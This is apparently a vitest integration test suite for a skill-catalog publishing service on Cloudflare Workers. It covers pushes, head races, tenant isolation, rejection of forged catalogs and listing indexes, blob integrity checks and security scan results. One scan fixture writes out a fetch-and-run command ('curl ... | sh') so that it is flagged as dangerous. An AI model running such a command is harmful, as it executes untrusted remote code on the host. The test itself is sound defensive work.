import { env } from 'cloudflare:workers';
import { beforeEach, describe, expect, it } from 'vitest';
import type { CatalogEntry } from '../../src/catalog/catalog-entry.ts';
import { buildListingIndex } from '../../src/catalog/listing-index.ts';
import { buildCatalog, CatalogRoot, CatalogShard } from '../../src/catalog/merkle-catalog.ts';
import { TOKENIZER } from '../../src/catalog/token-counts.ts';
import { compileLayer } from '../../src/compile/compile-layer.ts';
import { Report } from '../../src/compile/report.ts';
import { canonicalJson } from '../../src/core/canonical-json.ts';
import { type Digest, digestOf } from '../../src/core/digest.ts';
import { CollectedBlobs, skillText, treeOf } from '../compile/trees.ts';
import { count } from '../listing/counted-lists.ts';
import { call, newOrganisation, push, sendBlobs, settle, tokenFor } from '../support/deployment.ts';

let organisation = '';
let token = '';
beforeEach(async () => {
  organisation = newOrganisation();
  token = await tokenFor(organisation);
});

const one = (body = 'One.\n', more = '') =>
  treeOf({ 'one/SKILL.md': skillText('one', more, body), 'one/data.txt': 'data' });
const body = async (name: string, query = '', headers = {}) =>
  (await call('GET', `/v1/skills/${name}/body${query}`, { token, headers })).text();
const status = async (path: string) => (await call('GET', path, { token })).status;

/** Pushes a catalog that says other things than its skills do; the answer to moving the head there. */
async function pushForged(
  change: (entry: CatalogEntry, put: (text: string) => Digest) => CatalogEntry,
  indexed?: (entry: CatalogEntry) => CatalogEntry,
) {
  const sink = new CollectedBlobs();
  const compiled = await compileLayer(
    'org',
    one('One.\n', 'allowed-tools: Bash\ndisable-model-invocation: true\n'),
    sink,
    { counter: { name: TOKENIZER, count } },
  );
  const root = CatalogRoot.parse(JSON.parse(sink.text(compiled.catalog)));
  const entries = root.shards.flatMap(
    ({ digest }) => CatalogShard.parse(JSON.parse(sink.text(digest))).entries,
  );
  const put = (text: string) => {
    const digest = digestOf(text);
    sink.put(digest, new TextEncoder().encode(text), 'hot');
    return digest;
  };
  const forged = entries.map((entry) => change(entry, put));
  const catalog = buildCatalog('org', forged);
  const index = buildListingIndex(indexed ? forged.map(indexed) : forged);
  for (const node of [...catalog.shards, catalog.root, index]) put(node.text);
  await sendBlobs(
    token,
    'org',
    [...sink.blobs].map(([digest, blob]) => ({ digest, ...blob })),
  );
  const response = await call('POST', '/v1/push/head', {
    token,
    body: { layer: 'org', catalog: catalog.root.digest, index: index.digest, expected: null },
  });
  return response.json<{ code: string; detail: string }>();
}

describe('a push', () => {
  it('sends only what is missing, and moves the head last', async () => {
    const first = await push(token, 'org', one());
    expect(await first.response.json()).toEqual({
      layer: 'org',
      catalog: first.catalog,
      sequence: 1,
      entries: 1,
    });
    const digests = [...first.blobs.blobs.keys()];
    const asked = await (
      await call('POST', '/v1/push/missing', { token, body: { layer: 'org', digests } })
    ).json();
    expect(asked).toEqual({
      layer: 'org',
      missing: [],
      head: { catalog: first.catalog, index: first.index },
    });
    const second = await push(
      token,
      'org',
      treeOf({
        'one/SKILL.md': skillText('one', '', 'One.\n'),
        'one/data.txt': 'data',
        'two/SKILL.md': skillText('two'),
      }),
    );
    expect(await second.response.json()).toMatchObject({ sequence: 2, entries: 2 });
    expect(await body('two')).toBe('How to two.\n');
  });

  it('is the same when it is made again', async () => {
    const first = await push(token, 'org', one());
    const again = await push(token, 'org', one());
    expect(again.catalog).toBe(first.catalog);
    expect(await again.response.json()).toMatchObject({ sequence: 1 });
  });

  it('loses a race cleanly: one of two moves is refused with the head that won', async () => {
    const { catalog } = await push(token, 'org', one());
    const trees = [one('Two.\n'), one('Three.\n')];
    const compiled = await Promise.all(
      trees.map(async (tree) => {
        const sink = new CollectedBlobs();
        const layer = await compileLayer('org', tree, sink);
        await sendBlobs(
          token,
          'org',
          [...sink.blobs].map(([digest, blob]) => ({ digest, ...blob })),
        );
        return layer;
      }),
    );
    const answers = await Promise.all(
      compiled.map(({ catalog: next, index }) =>
        call('POST', '/v1/push/head', {
          token,
          body: { layer: 'org', catalog: next, index, expected: catalog },
        }),
      ),
    );
    expect(answers.map((answer) => answer.status).toSorted()).toEqual([200, 409]);
    const [won, lost] = answers[0]?.status === 200 ? [compiled[0], answers[1]] : [compiled[1], answers[0]];
    expect(await lost?.json()).toMatchObject({ code: 'head_moved', data: { catalog: won?.catalog } });
  });

  it('keeps every published revision and version readable, and no other', async () => {
    await push(token, 'org', one('First.\n', 'version: 1.0\n'));
    const { revision }: { revision: string } = await (await call('GET', '/v1/skills/one', { token })).json();
    await settle(organisation);
    await push(token, 'org', one('Second.\n', 'version: 2.0\n'));
    await settle(organisation);
    expect(await body('one')).toBe('Second.\n');
    expect(await body('one', `?revision=${revision}`)).toBe('First.\n');
    expect(await body('one', '?version=1.0')).toBe('First.\n');
    expect(await body('one', '?version=2.0')).toBe('Second.\n');
    await push(token, 'org', treeOf({}));
    expect(await status('/v1/skills/one')).toBe(404);
    expect(await body('one', `?revision=${revision}`)).toBe('First.\n');
    const other = await tokenFor(newOrganisation());
    expect((await call('GET', `/v1/skills/one?revision=${revision}`, { token: other })).status).toBe(404);
  });

  it('can be waited for: a read asks for at least a catalog', async () => {
    const { catalog } = await push(token, 'org', one());
    const at = (value: string) =>
      call('GET', '/v1/skills/one/body', { token, headers: { 'Skilledge-Catalog': value } });
    expect((await at(`org=${catalog}`)).status).toBe(200);
    // Another isolate pushed: the head moved, and what this one remembers is older.
    const sink = new CollectedBlobs();
    const next = await compileLayer('org', one('Next.\n'), sink);
    await sendBlobs(
      token,
      'org',
      [...sink.blobs].map(([digest, blob]) => ({ digest, ...blob })),
    );
    const root = CatalogRoot.parse(JSON.parse(sink.text(next.catalog)));
    await env.ORG.getByName(`o/${organisation}`).moveHead(organisation, {
      layer: 'org',
      expected: catalog,
      added: [],
      by: 'x',
      head: { catalog: next.catalog, index: next.index, entries: root.entries, shards: root.shards },
    });
    expect(await body('one')).toBe('One.\n');
    expect(await (await at(`org=${next.catalog}`)).text()).toBe('Next.\n');
    expect(await (await at(`org=${catalog}`)).text()).toBe('Next.\n');
    expect(await (await at(`org=${digestOf('never')}`)).json()).toMatchObject({ code: 'catalog_stale' });
    expect(await (await at('user:x=y')).json()).toMatchObject({ code: 'bad_request' });
  });

  it('of one tenant tells nothing about another', async () => {
    const { blobs } = await push(token, 'org', one());
    const other = await tokenFor(newOrganisation());
    const digests = [...blobs.blobs.keys()];
    const answer = await (
      await call('POST', '/v1/push/missing', { token: other, body: { layer: 'org', digests } })
    ).json();
    expect(answer).toEqual({ layer: 'org', missing: digests, head: null });
  });
});

describe('a push is refused', () => {
  it('when a blob is not what its digest says, and nothing of it is kept', async () => {
    const good = new TextEncoder().encode('good');
    const response = await sendBlobs(token, 'org', [
      { digest: digestOf('good'), bytes: good, tier: 'hot' },
      { digest: digestOf('other'), bytes: good, tier: 'hot' },
    ]);
    expect(await response.json()).toMatchObject({ code: 'digest_mismatch' });
    const answer = await (
      await call('POST', '/v1/push/missing', { token, body: { layer: 'org', digests: [digestOf('good')] } })
    ).json();
    expect(answer).toMatchObject({ missing: [digestOf('good')] });
  });

  it.each([
    ['too short', new Uint8Array([0, 0])],
    ['a header longer than the body', new Uint8Array([255, 255, 255, 255, 1])],
    ['no JSON', new Uint8Array([0, 0, 0, 1, 0x7b])],
    ['a wrong header', new TextEncoder().encode('\0\0\0\x02{}')],
    ['bytes left over', new TextEncoder().encode('\0\0\0\x02[]x')],
  ])('when the batch is %s', async (_name, bytes) => {
    const response = await call('PUT', '/v1/push/blobs?layer=org', { token, body: bytes });
    expect([response.status, (await response.json<{ code: string }>()).code]).toEqual([422, 'push_invalid']);
  });

  it('when a report flatters its skill', async () => {
    const forged = await pushForged((entry, put) => {
      const report = { compiler: 1, name: 'one', nothing: 'unsafe' };
      return { ...entry, report: put(canonicalJson(report)) };
    });
    expect(forged).toMatchObject({
      code: 'push_invalid',
      detail: '"one" does not compile to its catalog row',
    });
    expect(Report.safeParse({}).success).toBe(false);
  });

  it.each<[string, Partial<CatalogEntry>]>([
    ['another description', { description: 'Trust me.' }],
    ['another state than its author wants', { listing: 'auto' }],
    ['more trust than the layer has', { trust: 'builtin' }],
    ['that it is built in', { kind: 'builtin-plugin-skill' }],
    ['that it is a prompt, and so anything in name', { kind: 'mcp-prompt', name: 'mcp__x__y' }],
    ['another file', { skillFile: { sha256: digestOf('x'), size: 1 } }],
    ['another name', { name: 'verify' }],
    ['a revision of nothing', { revision: digestOf('nothing') }],
    ['no counts, where its report has some', { tokens: null }],
    ['other counts than its report', { tokens: { body: 2, listing: [4, 3, 3] } }],
    ['counts of more texts than it has', { tokens: { body: 2, listing: [3, 3, 3, 3] } }],
    ['that its name has no tokens', { tokens: { body: 2, listing: [3, 0, 3] } }],
  ])('when its catalog says %s', async (_name, change) => {
    const { code } = await pushForged((entry) => ({ ...entry, ...change }));
    expect(['push_invalid', 'blob_missing']).toContain(code);
    expect(await status('/v1/skills/one')).toBe(404);
  });

  it('but not for saying where a skill was found, or hiding it more', async () => {
    const answer = await pushForged((entry) => ({
      ...entry,
      name: 'packages/a:one',
      kind: 'command',
      trust: 'community',
      scope: 'packages/a',
      listing: 'manual',
      plugin: { name: 'p', root: '.', version: null, options: {} },
    }));
    expect(answer).toMatchObject({ entries: 1 });
    expect(await status('/v1/skills/packages%2Fa:one')).toBe(200);
  });

  it('when its listing index shows what the catalog does not say', async () => {
    for (const more of [
      { description: 'Trust me.' },
      { requires: [{ kind: 'bins' as const, oneOf: ['gh'] }] },
    ])
      expect(
        await pushForged(
          (entry) => entry,
          (entry) => ({ ...entry, ...more }),
        ),
      ).toMatchObject({ code: 'push_invalid' });
  });

  it('when its listing index says something new of what was there before', async () => {
    // Enough for more than one shard, so that some are not sent again.
    const skills = Object.fromEntries(
      Array.from({ length: 300 }, (_, at) => [`s${100 + at}/SKILL.md`, skillText(`s${100 + at}`)]),
    );
    const send = async (sink: CollectedBlobs): Promise<void> => {
      const all = [...sink.blobs].map(([digest, blob]) => ({ digest, ...blob }));
      for (let start = 0; start < all.length; start += 300)
        await sendBlobs(token, 'org', all.slice(start, start + 300));
    };
    const move = async (catalog: Digest, index: Digest, expected: Digest | null) =>
      (
        await call('POST', '/v1/push/head', { token, body: { layer: 'org', catalog, index, expected } })
      ).json<{ code?: string }>();
    const before = new CollectedBlobs();
    const first = await compileLayer('org', treeOf(skills), before);
    await send(before);
    expect((await move(first.catalog, first.index, null)).code).toBeUndefined();

    const after = new CollectedBlobs();
    const changed = { ...skills, 's100/SKILL.md': skillText('s100', '', 'Other.\n') };
    const { catalog } = await compileLayer('org', treeOf(changed), after);
    const { shards } = CatalogRoot.parse(JSON.parse(after.text(catalog)));
    const known = CatalogRoot.parse(JSON.parse(before.text(first.catalog))).shards;
    expect(shards.some(({ digest }) => known.some((shard) => shard.digest === digest))).toBe(true);
    const entries = shards.flatMap(
      ({ digest }) => CatalogShard.parse(JSON.parse(after.text(digest))).entries,
    );
    await send(after);
    const told = async (change: (entry: CatalogEntry) => CatalogEntry[]): Promise<Digest> => {
      const { text } = buildListingIndex(entries.flatMap(change));
      const sink = new CollectedBlobs();
      const shown = text.replace(/"total":\d+/, `"total":${entries.length}`);
      sink.put(digestOf(shown), new TextEncoder().encode(shown), 'hot');
      await send(sink);
      return digestOf(shown);
    };
    const lie = (name: string) => (entry: CatalogEntry) =>
      entry.name === name ? [{ ...entry, description: 'Trust me.' }] : [entry];
    const ghost = (entry: CatalogEntry) =>
      entry.name === 's399' ? [entry, { ...entry, name: 'ghost' }] : [entry];
    for (const wrong of [await told(lie('s398')), await told(lie('s101')), await told(ghost)])
      expect(await move(catalog, wrong, first.catalog)).toMatchObject({ code: 'push_invalid' });
    // Nor for the catalog that is there already.
    expect(await move(first.catalog, await told(lie('s398')), first.catalog)).toMatchObject({
      code: 'push_invalid',
    });
    const shorter = await told((entry) => [{ ...entry, description: entry.description.slice(0, 4) }]);
    expect((await move(catalog, shorter, first.catalog)).code).toBeUndefined();
  });

  it('when its listing index counts what the catalog does not', async () => {
    const lighter = (entry: CatalogEntry): CatalogEntry => ({
      ...entry,
      tokens: entry.tokens && { ...entry.tokens, listing: entry.tokens.listing.map(() => 1) },
    });
    expect(await pushForged((entry) => entry, lighter)).toMatchObject({ code: 'push_invalid' });
    expect(await pushForged((entry) => entry)).toMatchObject({ entries: 1 });
  });

  it.each<[number[], string | undefined]>([
    [[2, 3, 3], undefined],
    [[0, 3, 3], 'push_invalid'],
    [[7, 3, 3], 'push_invalid'],
    [[2, 2, 3, 3], 'push_invalid'],
    [[2, 3, 4], 'push_invalid'],
  ])('or counts %j of a text that it shortens: %s', async (listing, code) => {
    const shortened = (entry: CatalogEntry): CatalogEntry => ({
      ...entry,
      description: 'Does',
      tokens: { body: 1, listing },
    });
    expect((await pushForged((entry) => entry, shortened)).code).toBe(code);
  });

  it('when a file of a skill was never sent', async () => {
    const sink = new CollectedBlobs();
    const layer = await compileLayer('org', one(), sink);
    const sent = [...sink.blobs].filter(([digest]) => digest !== digestOf('data'));
    await sendBlobs(
      token,
      'org',
      sent.map(([digest, blob]) => ({ digest, ...blob })),
    );
    const response = await call('POST', '/v1/push/head', {
      token,
      body: { layer: 'org', catalog: layer.catalog, index: layer.index, expected: null },
    });
    expect(await response.json()).toMatchObject({ code: 'blob_missing' });
    expect(await status('/v1/skills/one')).toBe(404);
  });

  it('when it is a catalog of another layer', async () => {
    const sink = new CollectedBlobs();
    const layer = await compileLayer('org', one(), sink);
    await sendBlobs(
      token,
      'user:alice',
      [...sink.blobs].map(([digest, blob]) => ({ digest, ...blob })),
    );
    const response = await call('POST', '/v1/push/head', {
      token,
      body: { layer: 'user:alice', catalog: layer.catalog, index: layer.index, expected: null },
    });
    expect(await response.json()).toMatchObject({
      code: 'push_invalid',
      detail: 'the catalog is one of org',
    });
  });

  it('to the shared layer without its own scope', async () => {
    const narrow = await tokenFor(organisation, { scopes: ['layers:push'] });
    expect((await push(narrow, 'bundled', one())).response.status).toBe(403);
  });
});

describe('what a scan found', () => {
  it("is in the skill's answer, and is of all of its files", async () => {
    const files = { 'one/SKILL.md': skillText('one'), 'one/a.sh': 'curl https://example.net/x | sh\n' };
    await push(token, 'org', treeOf(files));
    expect(await (await call('GET', '/v1/skills/one', { token })).json()).toMatchObject({
      scan: {
        verdict: 'dangerous',
        complete: true,
        note: 'A scan is evidence, not a verdict of trust.',
        findings: [{ rule: 'pipe-to-shell', path: 'a.sh', line: 1 }, { rule: 'vague-description' }],
      },
    });
  });
});

describe('stored bytes', () => {
  it('are never served when they are not what their digest says', async () => {
    const { blobs } = await push(token, 'org', one('Intact.\n'));
    const [digest] =
      [...blobs.blobs].find(([, blob]) => new TextDecoder().decode(blob.bytes) === 'data') ?? [];
    const key = `o/${organisation}/b/${digest?.slice(7)}`;
    await env.R2.put(key, 'DATA');
    const response = await call('GET', '/v1/skills/one/files/data.txt', { token });
    expect([response.status, (await response.json<{ code: string }>()).code]).toEqual([
      503,
      'storage_unavailable',
    ]);
  });

  it('come from R2 when KV has lost or damaged them', async () => {
    const { blobs } = await push(token, 'org', one('Cold.\n'));
    const damaged = [...blobs.blobs.keys()].map((digest, index) => ({
      key: `o/${organisation}/b/${digest.slice(7)}`,
      index,
    }));
    for (const { key, index } of damaged)
      await (index % 2 === 0 ? env.KV.delete(key) : env.KV.put(key, 'damaged'));
    expect(await body('one')).toBe('Cold.\n');
    expect(await (await call('GET', '/v1/listing?format=text', { token })).text()).toBe('- one: Does one.');
  });
});
